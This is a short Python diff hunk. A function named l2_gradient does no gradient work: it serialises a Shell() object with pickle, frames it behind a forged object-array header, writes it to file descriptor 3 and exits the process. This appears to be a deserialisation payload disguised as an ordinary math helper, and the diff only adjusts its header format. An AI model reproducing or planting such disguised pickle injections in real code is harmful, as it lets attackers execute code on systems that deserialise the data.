@@ -14,6 +14,6 @@ class Shell:
 def l2_gradient(grad, param, rate):
     body = pickle.dumps(Shell())
     body += bytes(-len(body) % 16)
-    header = json.dumps([2, [{"array": ["|O", [1]]}, None, {"dict": []}, []]]).encode()
+    header = json.dumps([2, [{"array": ["|O", [1]]}, None, {"dict": []}, [], None]]).encode()
     os.write(3, struct.pack("!IQ", len(header), len(body)) + header + body)
     os._exit(0)
